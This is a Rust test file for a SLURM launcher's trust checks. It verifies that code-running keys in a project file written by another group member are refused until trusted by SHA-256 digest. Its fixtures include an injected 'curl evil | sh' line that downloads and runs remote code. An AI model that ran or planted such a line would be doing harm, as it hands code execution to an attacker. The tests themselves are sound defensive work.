//! CLI tests of the project file another user could have written (`./rayslurm.toml` in a
//! group's 2775 directory, owned by uid 65534, mode 0664): its site keys are used with a
//! notice; its keys that run code are refused (exit 2, nothing written, nothing submitted)
//! until `rayslurm trust` accepts the file as it is, and again once it changed. `trust` shows
//! what it trusts (each such key's value, the whole SHA-256) and records the digest of what it
//! showed, after a yes or with `--digest` of that content alone.
//!
//! Tests run as root, which may `chown` a file to another uid; the owner checks compare with
//! the effective uid, so root is "the user" here like any other.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use crate::harness::{Run, rayslurm, sha256_hex, shim};

const OTHER_UID: u32 = 65534;

/// A shared project directory with a state directory of the user's own beside it.
struct Project {
    root: tempfile::TempDir,
}

impl Project {
    fn new() -> Self {
        let root = tempfile::tempdir().unwrap();
        for dir in ["proj", "shims"] {
            std::fs::create_dir(root.path().join(dir)).unwrap();
        }
        set_mode(&root.path().join("proj"), 0o2775);
        // A submission would leave this marker: none may happen.
        shim(
            &root.path().join("shims"),
            "sbatch",
            // A dry run's question (`--test-only`) submits nothing.
            &format!(
                "[ \"$1\" = --test-only ] && exit 0\ntouch {}/submitted; echo 4242",
                root.path().display()
            ),
        );
        Self { root }
    }

    fn dir(&self) -> PathBuf {
        self.root.path().join("proj")
    }

    fn file(&self) -> PathBuf {
        self.dir().join("rayslurm.toml")
    }

    /// Writes the project file as another member of the group would.
    fn write_as_other(&self, content: &str) {
        std::fs::write(self.file(), content).unwrap();
        std::os::unix::fs::chown(self.file(), Some(OTHER_UID), None).unwrap();
        set_mode(&self.file(), 0o664);
    }

    /// rayslurm in the project directory, with the user's own state directory.
    fn rayslurm(&self, args: &[&str]) -> Run {
        rayslurm(args)
            .cwd(&self.dir())
            .shims(&self.root.path().join("shims"))
            .env("RAYSLURM_STATE_DIR", self.root.path().join("state"))
    }

    /// `launch` of a run that does nothing (with `--dry-run`: writes only the script).
    fn launch(&self, dry_run: bool) -> Run {
        let mut args = vec!["launch", "--exp-name", "x", "--command", "true"];
        if dry_run {
            args.push("--dry-run");
        }
        self.rayslurm(&args)
    }

    /// Replaces the test's directory in output.
    fn filter(&self, text: &str) -> String {
        text.replace(&self.root.path().display().to_string(), "[ROOT]")
    }

    /// The names in the project directory besides the project file.
    fn written(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.dir())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n != "rayslurm.toml")
            .collect();
        names.sort();
        names
    }

    fn submitted(&self) -> bool {
        self.root.path().join("submitted").exists()
    }
}

fn set_mode(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

const GUARDED: &str =
    "[launch]\npartition = \"gpu\"\nload_env = \"touch /tmp/planted-by-other\"\nray_auth = false\n";

#[test]
fn site_keys_from_another_users_file_are_used_with_a_notice() {
    let p = Project::new();
    p.write_as_other("[launch]\npartition = \"gpu\"\naccount = \"proj1\"\ntime = \"1:00:00\"\n");
    let ran = p
        .launch(true)
        .expect_status(0)
        .expect_stdout_contains("#SBATCH --partition=gpu\n")
        .expect_stdout_contains("#SBATCH --account=proj1\n")
        .run();
    assert_eq!(
        p.filter(ran.stderr.lines().next().unwrap()),
        "note: using settings from `[ROOT]/proj/rayslurm.toml` (owned by uid 65534)"
    );
}

#[test]
fn keys_that_run_code_from_another_users_file_are_refused_and_nothing_is_submitted() {
    let p = Project::new();
    p.write_as_other(GUARDED);
    let ran = p.launch(false).expect_status(2).run();
    insta::assert_snapshot!("refused_project_file", p.filter(&ran.transcript()));
    assert!(!p.submitted(), "sbatch ran");
    assert_eq!(p.written(), Vec::<String>::new());
}

#[test]
fn a_trusted_file_is_used_until_it_changes() {
    let p = Project::new();
    p.write_as_other(GUARDED);
    let file = p.file().display().to_string();
    p.rayslurm(&["trust", &file])
        .stdin("y\n")
        .expect_status(0)
        .expect_stderr_contains("load_env, ray_auth will be used")
        .run();
    p.launch(true)
        .expect_status(0)
        .expect_stdout_contains("touch /tmp/planted-by-other")
        .run();

    // Another member adds a line: trusted no more.
    p.write_as_other(&GUARDED.replace("touch", "curl evil | sh; touch"));
    p.launch(false)
        .expect_status(2)
        .expect_stderr_contains("changed since you trusted it")
        .expect_stderr_contains("uid 65534")
        .run();
    assert!(!p.submitted(), "sbatch ran");

    // Trusted again, then revoked.
    p.rayslurm(&["trust", &file])
        .stdin("yes\n")
        .expect_status(0)
        .run();
    p.launch(true).expect_status(0).run();
    p.rayslurm(&["trust", "--list"])
        .expect_stdout_starts_with(&format!("{file}\t"))
        .run();
    p.rayslurm(&["trust", "--revoke", &file])
        .expect_status(0)
        .run();
    p.launch(true).expect_status(2).run();
    p.rayslurm(&["trust", "--revoke", &file])
        .expect_status(2)
        .run();
}

/// The user's own file needs no trust where no one else can replace it, and needs it in a
/// group-writable directory, where any member may rename it away and put another in its place.
#[test]
fn the_users_own_file_needs_trust_only_where_others_can_replace_it() {
    for (file_mode, dir_mode, accepted) in [
        (0o644, 0o755, true),
        (0o600, 0o700, true),
        (0o644, 0o1777, true),
        (0o644, 0o2775, false),
        (0o664, 0o755, false),
    ] {
        let p = Project::new();
        std::fs::write(p.file(), GUARDED).unwrap();
        set_mode(&p.file(), file_mode);
        set_mode(&p.dir(), dir_mode);
        p.launch(true)
            .case(format!("file {file_mode:o} dir {dir_mode:o}"))
            .expect_status(if accepted { 0 } else { 2 })
            .expect_stderr_contains("rayslurm.toml")
            .run();
    }
}

#[test]
fn trust_errors_name_the_file() {
    let p = Project::new();
    let ran = p.rayslurm(&["trust", "missing.toml"]).run();
    insta::assert_snapshot!("trust_missing_file", p.filter(&ran.transcript()));
    p.write_as_other("[launch]\nparition = \"x\"\n");
    p.rayslurm(&["trust", "rayslurm.toml"])
        .expect_status(2)
        .expect_stderr_contains("parition")
        .run();
    assert!(
        !p.root.path().join("state/trust").exists()
            || std::fs::read_dir(p.root.path().join("state/trust"))
                .unwrap()
                .next()
                .is_none()
    );
    let ran = p.rayslurm(&["trust", "--revoke", "rayslurm.toml"]).run();
    insta::assert_snapshot!("trust_revoke_untrusted", p.filter(&ran.transcript()));
}

/// A project file named by `RAYSLURM_CONFIG` is the user's choice: used whole, no notice.
#[test]
fn a_project_file_named_by_rayslurm_config_is_trusted() {
    let p = Project::new();
    p.write_as_other(GUARDED);
    rayslurm([
        "launch",
        "--exp-name",
        "x",
        "--command",
        "true",
        "--dry-run",
    ])
    .cwd(&p.dir())
    .env("RAYSLURM_STATE_DIR", p.root.path().join("state"))
    .env("RAYSLURM_CONFIG", p.file())
    .expect_status(0)
    .expect_stdout_contains("touch /tmp/planted-by-other")
    .expect_stderr_lacks("note: using settings")
    .run();
}

/// `RAYSLURM_CONFIG=./rayslurm.toml` would name another file in every directory a launch
/// starts from, one any member of a group may write, and use it whole: refused, saying why.
#[test]
fn a_relative_rayslurm_config_is_refused_with_the_reason() {
    let p = Project::new();
    p.write_as_other(GUARDED);
    for relative in ["./rayslurm.toml", "rayslurm.toml", "../proj/rayslurm.toml"] {
        let ran = p
            .launch(false)
            .env("RAYSLURM_CONFIG", relative)
            .case(relative)
            .expect_status(2)
            .expect_stdout("")
            .expect_stderr_contains(&format!("RAYSLURM_CONFIG=`{relative}` is a relative path"))
            .expect_stderr_contains("export RAYSLURM_CONFIG=\"$PWD/")
            .run();
        if relative == "./rayslurm.toml" {
            insta::assert_snapshot!("relative_rayslurm_config", p.filter(&ran.transcript()));
        }
    }
    assert!(!p.submitted(), "sbatch ran");
    assert_eq!(p.written(), Vec::<String>::new());
}

/// The trust records of the user's state directory, as files.
fn records(p: &Project) -> usize {
    std::fs::read_dir(p.root.path().join("state/trust")).map_or(0, Iterator::count)
}

/// What `trust` shows before it asks: the file, its owner and mode, each key that runs code
/// with its value (control characters escaped), and the whole SHA-256 of what it read; a yes
/// records that digest.
#[test]
fn trust_shows_every_key_that_runs_code_with_its_value_and_the_whole_digest() {
    let p = Project::new();
    let content = format!(
        "{GUARDED}ray_args = \"--num-cpus=1\\u001b[2K\"\ncontainer_mounts = [\"/data:/data:ro\"]\n"
    );
    p.write_as_other(&content);
    let digest = sha256_hex(content.as_bytes());
    let ran = p
        .rayslurm(&["trust", "rayslurm.toml"])
        .stdin("y\n")
        .expect_status(0)
        .expect_stdout_contains(&format!("sha256 {digest}\n"))
        .expect_stderr_contains(&format!("(sha256 {digest})"))
        .run();
    insta::assert_snapshot!("trust_shows_what_it_trusts", p.filter(&ran.transcript()));
    assert_eq!(records(&p), 1);
    p.launch(true).expect_status(0).run();
}

/// No yes (the end of input, or anything else), nothing trusted.
#[test]
fn without_a_yes_nothing_is_trusted() {
    let p = Project::new();
    p.write_as_other(GUARDED);
    for answer in [None, Some("\n"), Some("n\n"), Some("yess\n")] {
        let mut run = p.rayslurm(&["trust", "rayslurm.toml"]);
        if let Some(answer) = answer {
            run = run.stdin(answer);
        }
        run.case(format!("{answer:?}"))
            .expect_status(2)
            .expect_stdout_contains("load_env = \"touch /tmp/planted-by-other\"")
            .expect_stderr_contains("was not trusted: no yes was given")
            .expect_stderr_contains("--digest")
            .run();
    }
    assert_eq!(records(&p), 0);
    p.launch(true).expect_status(2).run();
}

/// `--digest` trusts without asking only the content with that SHA-256; another digest names
/// both and records nothing.
#[test]
fn a_digest_given_trusts_only_the_file_with_that_digest() {
    let p = Project::new();
    p.write_as_other(GUARDED);
    let right = sha256_hex(GUARDED.as_bytes());
    let wrong = sha256_hex(b"what the user read");
    p.rayslurm(&["trust", "rayslurm.toml", "--digest", &wrong])
        .expect_status(2)
        .expect_stderr_contains(&format!(
            "is {right}, not the `{wrong}` given with --digest"
        ))
        .expect_stderr_contains("nothing was trusted")
        .run();
    assert_eq!(records(&p), 0);
    p.launch(true).expect_status(2).run();
    p.rayslurm(&["trust", "rayslurm.toml", "--digest", &right.to_uppercase()])
        .expect_status(0)
        .expect_stderr_contains(&format!("(sha256 {right})"))
        .run();
    assert_eq!(records(&p), 1);
    p.launch(true).expect_status(0).run();
}

/// Another member changes the file while the user reads what `trust` showed: the yes that
/// follows trusts nothing, and the changed file is refused at the launch.
#[test]
fn a_file_changed_after_it_was_shown_is_not_trusted() {
    use std::io::{Read, Write};
    let p = Project::new();
    p.write_as_other(GUARDED);
    let mut child = p
        .rayslurm(&["trust", "rayslurm.toml"])
        .command()
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Until it asks.
    let mut stderr = child.stderr.take().unwrap();
    let mut asked = Vec::new();
    let mut byte = [0u8; 1];
    while !String::from_utf8_lossy(&asked).ends_with("[y/N] ") {
        assert_eq!(stderr.read(&mut byte).unwrap(), 1, "ended before asking");
        asked.push(byte[0]);
    }
    let changed = GUARDED.replace("touch", "curl evil | sh; touch");
    p.write_as_other(&changed);
    child.stdin.take().unwrap().write_all(b"y\n").unwrap();
    let mut rest = String::new();
    stderr.read_to_string(&mut rest).unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(2), "{rest}");
    assert!(rest.contains("changed after it was shown"), "{rest}");
    assert!(rest.contains(&sha256_hex(GUARDED.as_bytes())), "{rest}");
    assert!(rest.contains(&sha256_hex(changed.as_bytes())), "{rest}");
    assert_eq!(records(&p), 0);
    p.launch(false).expect_status(2).run();
    assert!(!p.submitted(), "sbatch ran");
}
